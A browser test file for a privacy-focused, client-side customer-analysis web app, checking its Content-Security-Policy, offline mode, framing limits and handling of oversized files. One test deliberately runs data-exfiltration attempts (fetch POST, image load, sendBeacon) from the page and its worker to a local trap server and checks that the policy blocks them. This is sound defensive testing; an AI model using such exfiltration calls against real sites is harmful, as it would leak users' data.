// The privacy promise, proven in a real browser: the page's
// Content-Security-Policy confines the page and its analysis worker to their
// own origin, a full analysis sends nothing anywhere else, the app works
// with the server gone after one visit, and a file too large for a tab is
// refused with the limit, not a crash.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { ROOT, startApp, stopApp, openPage, ready, value, cli, screenshot } from './harness.mjs';
import { serve } from '../../scripts/static-server.mjs';

const MASTER = path.join(ROOT, 'tests/data/CDNOW_master.txt');
let app;
// A foreign origin that counts every request reaching it: nothing may.
let trap;
const trapped = [];

before(async () => {
  app = await startApp();
  trap = http.createServer((req, res) => {
    trapped.push(req.url);
    res.writeHead(200, { 'access-control-allow-origin': '*' }).end('ok');
  });
  await new Promise((resolve) => trap.listen(0, '127.0.0.1', resolve));
});
after(async () => {
  await stopApp(app);
  await new Promise((resolve) => trap.close(resolve));
});

const trapUrl = () => `http://127.0.0.1:${trap.address().port}/leak`;

/** Records every CSP violation the page reports, from the first script on. */
async function watchPolicy(context) {
  await context.addInitScript(() => {
    window.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => {
      window.__violations.push(`${e.effectiveDirective} ${e.blockedURI}`);
    });
  });
}

/** Every request the context makes (page, worker, service worker). */
function recordRequests(context) {
  const urls = [];
  context.on('request', (r) => urls.push(r.url()));
  return urls;
}

const foreign = (urls, origin) =>
  urls.filter((u) => !u.startsWith(`${origin}/`) && !u.startsWith('blob:') && !u.startsWith('data:'));

test('the page carries a Content-Security-Policy that allows only its own origin', async () => {
  const html = fs.readFileSync(path.join(ROOT, 'dist/index.html'), 'utf8');
  const policy = html.match(/http-equiv="Content-Security-Policy" content="([^"]+)"/)?.[1];
  assert.ok(policy, 'dist/index.html has the policy');
  const directives = Object.fromEntries(policy.split(';').map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k, v]));
  assert.deepEqual(directives['default-src'], ["'none'"]);
  assert.deepEqual(directives['connect-src'], ["'self'"]);
  assert.deepEqual(directives['form-action'], ["'none'"]);
  assert.deepEqual(directives['base-uri'], ["'none'"]);
  assert.deepEqual(directives['style-src'], ["'self'"]);
  assert.deepEqual(directives['img-src'], ["'self'", 'blob:']);
  // Scripts: this origin, the wasm allowance, and the one inline loader by its hash.
  const [self, wasm, ...hashes] = directives['script-src'];
  assert.deepEqual([self, wasm], ["'self'", "'wasm-unsafe-eval'"]);
  assert.equal(hashes.length, 1, `one inline script hash: ${hashes}`);
  assert.match(hashes[0], /^'sha256-[A-Za-z0-9+/]{43}='$/);
  for (const [name, sources] of Object.entries(directives)) {
    for (const source of sources) {
      assert.ok(!/^https?:|^\*|^'unsafe-inline'$|^'unsafe-eval'$/.test(source), `${name} ${source}`);
    }
  }
});

test('a full analysis sends nothing beyond the page, and the policy blocks anyone who tries', async () => {
  const context = await app.browser.newContext({ viewport: { width: 1280, height: 800 }, acceptDownloads: true });
  await watchPolicy(context);
  const urls = recordRequests(context);
  const page = await context.newPage();
  const errors = [];
  page.on('pageerror', (e) => errors.push(String(e)));
  await page.goto(app.url);
  // A real file, every section, a card, the exports and a chart saved as PNG.
  await page.getByTestId('file-input').setInputFiles(MASTER);
  await ready(page);
  assert.equal(await value(page, 'kpi-customers'), cli(MASTER).customers);
  for (const section of ['pareto', 'tiers', 'types', 'rfm', 'lifecycle', 'value', 'customers', 'settings', 'data']) {
    await page.getByTestId(`nav-${section}`).click();
  }
  await page.locator('[data-testid="customer-table"] tr[data-id]').first().click();
  await page.getByTestId('customer-card').waitFor();
  await page.keyboard.press('Escape');
  for (const id of ['export-csv', 'export-view', 'tiers-chart-save-svg', 'tiers-chart-save-png']) {
    const [download] = await Promise.all([
      page.waitForEvent('download', { timeout: 10_000 }).catch(async (e) => {
        throw new Error(`${id}: ${e.message}; violations: ${await page.evaluate(() => window.__violations)}`);
      }),
      page.getByTestId(id).click(),
    ]);
    assert.ok((await download.path()) !== null, id);
  }
  assert.deepEqual(await page.evaluate(() => window.__violations), [], 'the app itself breaks no rule');
  assert.deepEqual(foreign(urls, app.origin), [], 'no request left the origin');
  assert.ok(urls.length > 5, `requests were recorded: ${urls.length}`);

  // Code that tried to send data away, in the page and in the worker
  // holding the data, is stopped by the policy before a byte goes out.
  const leak = trapUrl();
  const fromPage = await page.evaluate(async (url) => {
    const attempts = [
      fetch(url, { method: 'POST', body: 'customer data' }).then(() => 'sent', () => 'blocked'),
      new Promise((resolve) => {
        const img = new Image();
        img.onload = () => resolve('sent');
        img.onerror = () => resolve('blocked');
        img.src = `${url}.png`;
      }),
    ];
    navigator.sendBeacon(url, 'customer data');
    return Promise.all(attempts);
  }, leak);
  assert.deepEqual(fromPage, ['blocked', 'blocked']);
  const workers = page.workers();
  assert.equal(workers.length, 1, 'the analysis worker is running');
  const fromWorker = await workers[0].evaluate(
    (url) => fetch(url, { method: 'POST', body: 'customer data' }).then(() => 'sent', () => 'blocked'),
    leak,
  );
  assert.equal(fromWorker, 'blocked', 'the worker inherits the page policy');
  const violations = await page.evaluate(() => window.__violations);
  assert.ok(violations.some((v) => v.startsWith('connect-src')), violations.join('\n'));
  assert.ok(violations.some((v) => v.startsWith('img-src')), violations.join('\n'));
  await new Promise((r) => setTimeout(r, 300));
  assert.deepEqual(trapped, [], 'the foreign server received nothing');
  assert.deepEqual(errors, []);
  await context.close();
});

test('after one visit the app opens and analyses a file with the server gone', async () => {
  // Its own server, so it can be stopped, with the app under a sub-path.
  const own = await startApp({ subPath: '/tools/tierlens' });
  try {
    const context = await own.browser.newContext({ viewport: { width: 1280, height: 800 } });
    const page = await context.newPage();
    await page.goto(`${own.url}?lang=zh`);
    await page.getByTestId('sample-button').waitFor();
    // The service worker has cached the whole app shell.
    const cached = await page.evaluate(async () => {
      const registration = await navigator.serviceWorker.ready;
      const keys = await caches.keys();
      const cache = await caches.open(keys.find((k) => k.includes(registration.scope)));
      return { scope: registration.scope, files: (await cache.keys()).map((r) => r.url) };
    });
    assert.equal(cached.scope, own.url);
    assert.ok(cached.files.some((u) => u.endsWith('_bg.wasm')), cached.files.join('\n'));

    own.server.closeAllConnections();
    await new Promise((resolve) => own.server.close(resolve));
    own.server = null;
    await context.setOffline(true);
    await page.reload();
    await page.getByTestId('sample-button').waitFor();
    await page.getByTestId('file-input').setInputFiles(MASTER);
    await ready(page);
    assert.equal(await value(page, 'kpi-customers'), cli(MASTER).customers);
    await page.getByText('客户分级', { exact: false }).first().waitFor();
    await screenshot(page, '60-offline-analysis');
    await context.close();
  } finally {
    await stopApp(own);
  }
});

test('a portal limits who may frame the app with frame-ancestors', async () => {
  // The header README's SECURITY section tells hosts to send.
  const strict = await serve(path.join(ROOT, 'dist'), 0, '127.0.0.1', {
    headers: { 'content-security-policy': "frame-ancestors 'self'" },
  });
  const other = await serve(path.join(ROOT, 'dist'));
  const at = (server) => `http://127.0.0.1:${server.address().port}`;
  try {
    const context = await app.browser.newContext();
    const page = await context.newPage();
    // Its own portal page frames it ...
    await page.goto(`${at(strict)}/public/embed-example.html`);
    await page.frameLocator('[data-testid="host-frame"]').getByTestId('sample-button').waitFor();
    // ... a page of another origin gets an empty frame.
    await page.goto(`${at(other)}/public/embed-example.html?app=${encodeURIComponent(`${at(strict)}/index.html`)}`);
    await new Promise((r) => setTimeout(r, 1500));
    assert.equal(await page.frameLocator('[data-testid="host-frame"]').getByTestId('sample-button').count(), 0);
    await context.close();
  } finally {
    await Promise.all([strict, other].map((s) => new Promise((resolve) => s.close(resolve))));
  }
});

test('a file too large for a browser tab is refused with the limit and the way out', async () => {
  // Sparse: 300 MB on paper, nothing on disk; it must be refused before a byte is read.
  const file = path.join(os.tmpdir(), `tierlens-too-large-${process.pid}.csv`);
  fs.closeSync(fs.openSync(file, 'w'));
  fs.truncateSync(file, 300_000_000);
  try {
    const { page, context, log } = await openPage(app);
    await page.getByTestId('file-input').setInputFiles(file);
    const banner = page.getByTestId('error-banner');
    await banner.waitFor();
    const text = await banner.innerText();
    assert.match(text, /300\.0 MB/);
    assert.match(text, /up to 250 MB/);
    assert.match(text, /one row per customer/);
    await screenshot(page, '61-too-large');
    // The page is still alive and analyses the next file.
    await page.getByTestId('sample-button').click();
    await ready(page);
    assert.deepEqual(log.errors, []);
    await context.close();
  } finally {
    fs.rmSync(file, { force: true });
  }
});
